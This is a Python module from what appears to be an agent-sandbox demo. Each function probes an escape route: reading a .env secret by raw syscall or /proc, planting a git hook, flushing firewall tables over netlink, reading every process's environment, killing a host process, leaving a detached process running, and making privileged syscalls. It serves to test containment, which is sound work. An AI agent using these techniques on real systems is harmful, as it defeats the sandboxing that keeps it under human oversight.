"""What the agent does without asking: system calls, raw sockets, programs started directly.

Each function returns what it got hold of and raises OSError or Refused where it got nothing.
Standard library only: this is what any code in the box can do. Nothing here harms a machine
that does not hold: the one process it kills and the files it writes belong to the demo.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import glob
import os
import platform
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Mapping
from functools import partial
from pathlib import Path
from typing import TYPE_CHECKING

from axonkernel.demo.scene import Scene

if TYPE_CHECKING:
    from axonkernel.kernel import Kernel

__all__ = ["Refused"]

_ARM = platform.machine() == "aarch64"
#: System calls by number, as an attacker without a library would make them.
_OPENAT = 56 if _ARM else 257
_UNSHARE = 97 if _ARM else 272
_MOUNT = 40 if _ARM else 165
_PTRACE = 117 if _ARM else 101
_BPF = 280 if _ARM else 321
_KEYCTL = 219 if _ARM else 250
_IO_URING_SETUP = 425
_NETLINK_NETFILTER = 12
_BEAT = "import time\nfor _ in range(300): print('x', flush=True); time.sleep(0.05)"


class Refused(Exception):
    """Every way that was tried ended in an error."""


def read_secret(kernel: Kernel, scene: Scene) -> str:
    """By number, by another name of the same folder, by an allowed program."""
    secret = f"{scene.project}/.env"
    return _any_of(
        {
            "openat": lambda: _openat(secret),
            "/proc": lambda: Path(f"/proc/self/root{secret}").read_text(),
            "git": lambda: _output("git", "grep", "--no-index", "-h", ".", secret),
            "copy": lambda: Path(secret).rename(f"{scene.project}/output/env").read_text(),
        }
    )


def list_home(kernel: Kernel, scene: Scene) -> str:
    """Every name below the home folders: the one here and that of whoever started it."""
    homes = (scene.home, os.path.expanduser("~"))
    walks = [walk for home in homes for walk in os.walk(home)]
    return "\n".join(name for _, folders, files in walks for name in (*folders, *files))


def write_outside(kernel: Kernel, scene: Scene) -> str:
    """Directly, and through a symlink that lies in the project."""
    link = Path(scene.project, "output", "way-out")
    with contextlib.suppress(FileExistsError):
        link.symlink_to(scene.outside)
    targets = (Path(scene.outside, "below"), link / "below", Path(scene.home, "below"))
    return _any_of({str(target): partial(_wrote, target) for target in targets})


def plant_hook(kernel: Kernel, scene: Scene) -> str:
    """A program that git of the host would run later."""
    return _wrote(Path(scene.project, ".git", "hooks", "pre-commit"))


def connect(kernel: Kernel, scene: Scene) -> str:
    """To a server on the host's loopback, by TCP and by UDP."""
    addresses = {"tcp": (socket.SOCK_STREAM, scene.tcp), "udp": (socket.SOCK_DGRAM, scene.udp)}
    return _any_of({
        name: partial(_sent, socket.AF_INET, kind, ("127.0.0.1", port))
        for name, (kind, port) in addresses.items()
    })  # fmt: skip


def connect_abstract(kernel: Kernel, scene: Scene) -> str:
    """To a socket of the host that has no file."""
    return _sent(socket.AF_UNIX, socket.SOCK_STREAM, f"\0{scene.abstract}")


def connect_other_port(kernel: Kernel, scene: Scene) -> str:
    """To the granted address, at a port that is not granted."""
    return _sent(socket.AF_INET, socket.SOCK_STREAM, ("203.0.113.10", 80))


def flush_table(kernel: Kernel, scene: Scene) -> str:
    """Ask the kernel to drop the table, as `nft flush ruleset` would."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, _NETLINK_NETFILTER) as netlink:
        netlink.settimeout(2)
        netlink.send(_deletion())
        code = -int.from_bytes(netlink.recv(4096)[16:20], sys.byteorder, signed=True)
        if code:
            raise OSError(code, os.strerror(code))
    return "flushed"


def own_loopback(kernel: Kernel, scene: Scene) -> str:
    """A server of its own, which it may have."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        _sent(socket.AF_INET, socket.SOCK_STREAM, server.getsockname())
        connection, _ = server.accept()
        with connection:
            return connection.recv(100).decode()


def start_programs(kernel: Kernel, scene: Scene) -> str:
    """Programs of the host, by name and by path."""
    ways: dict[str, Callable[[], str]] = {}
    for name in scene.programs:
        ways[name] = partial(_started, name)
        ways[f"/usr/bin/{name}"] = partial(_started, f"/usr/bin/{name}")
    return _any_of(ways)


def delete_tag(kernel: Kernel, scene: Scene) -> str:
    """An allowed program with words that are not, without asking the kernel."""
    return _output("git", "-C", scene.project, "tag", "-d", "v1.0")


def read_environment(kernel: Kernel, scene: Scene) -> str:
    """What it was started with, in every place where that is kept."""
    texts = [str(dict(os.environ))]
    for path in ("/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ"):
        with contextlib.suppress(OSError):
            texts.append(Path(path).read_text(errors="replace"))
    return "\n".join(texts)


def granted_variable(kernel: Kernel, scene: Scene) -> str:
    """The one variable that is let in."""
    return os.environ["DEMO_LANGUAGE"]


def read_processes(kernel: Kernel, scene: Scene) -> str:
    """The environment and command line of every process there is."""
    texts = []
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            texts.append(Path(path).read_text(errors="replace"))
    return "\n".join(texts)


def kill_victim(kernel: Kernel, scene: Scene) -> str:
    """A process of the host, by its pid."""
    os.kill(scene.victim, 9)
    return "killed"


def stay_behind(kernel: Kernel, scene: Scene) -> str:
    """A process in a session of its own, which writes until it is stopped."""
    path = Path(scene.project, "output", "beats")
    with open(path, "w") as beats:
        process = subprocess.Popen(
            [sys.executable, "-c", _BEAT],
            stdin=subprocess.DEVNULL,
            stdout=beats,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
    deadline = time.monotonic() + 5
    while not path.stat().st_size:
        if time.monotonic() > deadline:
            raise Refused("it did not start")
        time.sleep(0.02)
    return str(process.pid)


def raw_calls(kernel: Kernel, scene: Scene) -> str:
    """System calls that no ordinary program needs, by number."""
    buffer = ctypes.create_string_buffer(256)
    return _any_of(
        {
            "mount": lambda: _call(_MOUNT, b"none", b"/tmp", b"tmpfs", 0, None),
            "unshare": lambda: _in_child(_UNSHARE, 0x10000000),  # CLONE_NEWUSER
            "ptrace": lambda: _in_child(_PTRACE, 0, 0, 0, 0),  # PTRACE_TRACEME
            "bpf": lambda: _call(_BPF, 0, buffer, 72),  # BPF_MAP_CREATE
            "keyctl": lambda: _call(_KEYCTL, 0, -3, 1),  # the session keyring
            "io_uring": lambda: _call(_IO_URING_SETUP, 1, buffer),
        }
    )


def raw_socket(kernel: Kernel, scene: Scene) -> str:
    """Packets past every table."""
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()
    return "opened"


def set_uid_bit(kernel: Kernel, scene: Scene) -> str:
    """A file that would give its owner's rights to whoever runs it on the host."""
    path = Path(scene.project, "output", "set-uid")
    path.write_text("#!/bin/sh\n")
    path.chmod(0o4755)
    return "set"


def fill_disk(kernel: Kernel, scene: Scene) -> str:
    """64 MB in the private /tmp."""
    path = Path("/tmp/axonkernel-demo-fill")
    try:
        with open(path, "wb", buffering=0) as file:
            for _ in range(64):
                file.write(bytes(1 << 20))
        return "64 MB"
    finally:
        path.unlink(missing_ok=True)


# -- tools of the trade ---------------------------------------------------------------------


def _any_of(ways: Mapping[str, Callable[[], str]]) -> str:
    """What the ways that worked brought. Raises Refused when none did."""
    brought: list[str] = []
    errors: dict[str, None] = {}
    for name, way in ways.items():
        try:
            brought.append(f"{name}: {way()}")
        except OSError as error:
            errors[errno.errorcode.get(error.errno or 0, "error")] = None
        except subprocess.SubprocessError:
            errors["failed"] = None
    if brought:
        return "\n".join(brought)
    raise Refused(", ".join(errors))


def _wrote(path: Path) -> str:
    path.write_text("written by the agent\n")
    return str(path)


def _sent(family: int, kind: int, address: tuple[str, int] | str) -> str:
    with socket.socket(family, kind) as connection:
        connection.settimeout(2)
        connection.connect(address)
        connection.send(b"the secret, for example")
        if kind == socket.SOCK_DGRAM:
            connection.recv(1)  # a refusal comes as an answer; the listener answers too
    return f"sent to {address}"


def _output(*argv: str) -> str:
    done = subprocess.run(argv, capture_output=True, text=True, timeout=10)
    done.check_returncode()
    return done.stdout


def _started(program: str) -> str:
    # Whatever it makes of these words: that it runs at all is the point.
    subprocess.run([program, "--version"], capture_output=True, timeout=10)
    return program


def _call(number: int, *arguments: object) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    if libc.syscall(number, *arguments) < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return "done"


def _in_child(number: int, *arguments: object) -> str:
    """A system call that would change the caller, made by a child."""
    pid = os.fork()
    if pid == 0:
        try:
            _call(number, *arguments)
            os._exit(0)
        except OSError as error:
            os._exit(error.errno or 255)
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if code:
        raise OSError(code, os.strerror(code) if code > 0 else "killed")
    return "done"


def _openat(path: str) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    file = libc.syscall(_OPENAT, -100, path.encode(), 0, 0)
    if file < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    with open(file, "rb") as content:
        return content.read().decode()


def _deletion() -> bytes:
    """A netlink batch that deletes every table: begin, NFT_MSG_DELTABLE, end."""
    family, order = b"\0\0\0\0", sys.byteorder

    def message(kind: int, flags: int, number: int, body: bytes) -> bytes:
        head = [(16 + len(body), 4), (kind, 2), (flags, 2), (number, 4), (0, 4)]
        return b"".join(value.to_bytes(size, order) for value, size in head) + body

    subsystem = b"\0\0" + (10).to_bytes(2, "big")  # NFNL_SUBSYS_NFTABLES
    return (
        message(16, 1, 1, subsystem)
        + message(10 << 8 | 2, 5, 2, family)
        + message(17, 1, 3, subsystem)
    )
